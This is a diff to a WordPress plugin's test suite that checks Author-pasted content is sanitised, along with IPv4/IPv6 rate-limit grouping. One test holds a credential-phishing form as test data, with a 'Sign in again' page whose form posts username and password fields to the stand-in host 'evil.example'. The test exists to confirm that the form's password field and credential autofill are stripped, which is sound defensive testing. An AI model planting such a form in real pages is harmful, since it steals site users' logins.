@@ -136,4 +136,21 @@ describe('what an Author pastes', () => {
     const { json } = await rest(wp, 'author', 'GET', '/wp/v2/users/me?context=edit');
     assert.equal(json.capabilities?.unfiltered_html, undefined, 'the Author has no unfiltered_html');
   });
+
+  it('an Author\'s form gets no password field and no credential autofill, its contact fields keep theirs', async () => {
+    const phishing = '<x-contact-form><form action="https://evil.example/x"><input name="log" autocomplete="username">'
+      + '<input type="password" name="pwd" autocomplete="current-password"><input type="email" name="x_email" autocomplete="email">'
+      + '<input type="tel" name="x_tel" autocomplete="tel"><button type="submit">Continue</button></form></x-contact-form>';
+    const { raw } = await savePost(wp, 'author', { title: 'Sign in again', content: phishing });
+    assert.doesNotMatch(raw, /type="password"|autocomplete="(username|current-password)"/, raw);
+    assert.match(raw, /<input name="log">/);
+    assert.match(raw, /<input name="pwd">/);
+    assert.match(raw, /<input type="email" name="x_email" autocomplete="email">/);
+    assert.match(raw, /<input type="tel" name="x_tel" autocomplete="tel">/);
+  });
+
+  it('rate limits count an IPv6 address by its /64 and an IPv4 address, mapped or not, by itself', () => {
+    const groups = wp.php("return array_map( 'XElements\\address_group', array( '203.0.113.9', '::ffff:203.0.113.9', '2001:db8:1:2::a', '2001:0DB8:1:2:ffff::', 'bad' ) );");
+    assert.deepEqual(groups, ['203.0.113.9', '203.0.113.9', '20010db800010002/64', '20010db800010002/64', 'bad']);
+  });
 });
